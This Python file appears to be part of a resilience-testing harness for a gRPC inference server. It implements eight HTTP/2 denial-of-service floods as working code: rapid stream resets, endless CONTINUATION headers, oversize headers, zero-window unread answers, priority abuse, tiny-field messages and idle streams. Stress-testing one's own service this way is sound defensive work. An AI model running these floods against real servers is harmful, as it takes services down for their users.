"""Floods over connections that are kept: frames, headers, answers that are not read."""

import contextlib
import struct
import time

from measure import INFERENCE, Attack, encode
from raw_http2 import CANCEL, CONTINUATION, END_HEADERS, HEADERS, PING, RST_STREAM, Connection, field, frame, hpack_integer, request_headers


def take_back(address, _):
    """20,000 calls that are begun and taken back at once."""
    connection = Connection(address)
    reset = struct.pack(">I", CANCEL)
    calls = (connection.headers_of(INFERENCE + "Generate") for _ in range(20000))
    connection.send(b"".join(begin + frame(RST_STREAM, 0, stream, reset) for stream, begin in calls))
    connection.send(frame(PING, 0, 0, b"is there"))
    while connection.read_frame()[0] != PING:
        pass


def endless_header(address, end):
    """One header that goes on and on."""
    connection = Connection(address)
    connection.send(frame(HEADERS, 0, 1, request_headers(INFERENCE + "Generate") + b"\0\1x" + hpack_integer(1 << 30, 7)))
    piece = frame(CONTINUATION, 0, 1, b"a" * 16384)
    while time.monotonic() < end:
        connection.send(piece)


def oversize_header(address, end):
    """Calls whose headers are larger than may be: 48 KiB."""
    connection = Connection(address)
    fields = request_headers(INFERENCE + "Generate", [(f"x-{i}", "a" * 3000) for i in range(16)])
    while time.monotonic() < end:
        stream, _ = connection.headers_of("")
        pieces = [fields[i:i + 16384] for i in range(0, len(fields), 16384)]
        for i, piece in enumerate(pieces):
            flags = END_HEADERS if i == len(pieces) - 1 else 0
            connection.send(frame(CONTINUATION if i else HEADERS, flags, stream, piece))
        connection.read(stream)


def unread_answers(address, end):
    """19 Tokenize calls of 4 MB each whose answers are not read."""
    connection = Connection(address, window=0)
    body = field(1, "embed-en") + field(2, "a b c d " * (4000000 // 8))
    for _ in range(19):
        connection.write(connection.open(INFERENCE + "Tokenize"), body, last=True)
    connection.is_closed(max(end - time.monotonic(), 0))


def unread_vectors(address, end):
    """100 streams of EncodeMany of 24 KB each, for every token's vector, whose answers are not read."""
    connection = Connection(address, window=0)
    inputs = b"".join(field(2, field(1, "a b c d e f g h " * 7)) for _ in range(200))
    body = field(1, "embed-en") + inputs + field(3, 4) + field(9, "vectors")  # POOLING_NONE, request_id
    rests = {connection.open(INFERENCE + "EncodeMany"): b"\0" + struct.pack(">I", len(body)) + body for _ in range(100)}
    with contextlib.suppress(OSError):
        connection.write_in_turns(rests, 2)
    connection.is_closed(max(end - time.monotonic(), 0))


def urgent(address, end):
    """64 Encode calls at once, as those of the normal client, of priority 100."""
    connection = Connection(address, window=1 << 20)
    path, body = encode()
    body += field(8, 100)
    streams = [connection.open(path) for _ in range(64)]
    for stream in streams:
        connection.write(stream, body, last=True)
    while time.monotonic() < end:
        stream = streams.pop(0)
        connection.read(stream)
        del connection.answers[stream]
        streams.append(connection.open(path))
        connection.write(streams[-1], body, last=True)


def tiny_parts(address, end):
    """Two Encode calls of 4 MB at once, each of two million empty texts."""
    connection = Connection(address)
    body = field(1, "embed-en") + field(2, b"") * 2000000
    streams = []
    while time.monotonic() < end:
        streams.append(connection.open(INFERENCE + "Encode"))
        connection.write(streams[-1], body, last=True)
        if len(streams) == 2:
            stream = streams.pop(0)
            connection.read(stream)
            del connection.answers[stream]


def idle_streams(address, end):
    """2,500 streams that say nothing."""
    connection = Connection(address)
    connection.send(b"".join(connection.headers_of(INFERENCE + "GenerateMany")[1] for _ in range(2500)))
    connection.is_closed(max(end - time.monotonic(), 0))


ATTACKS = (
    Attack("calls taken back", take_back, 8, again=True),
    Attack("endless headers", endless_header, 8, again=True),
    Attack("oversize headers", oversize_header, 8, again=True),
    Attack("unread answers", unread_answers, 4),
    Attack("unread token vectors", unread_vectors),
    Attack("urgent calls", urgent, 4, again=True),
    Attack("idle streams", idle_streams, 4),
    Attack("messages of tiny parts", tiny_parts, 4, again=True),
)
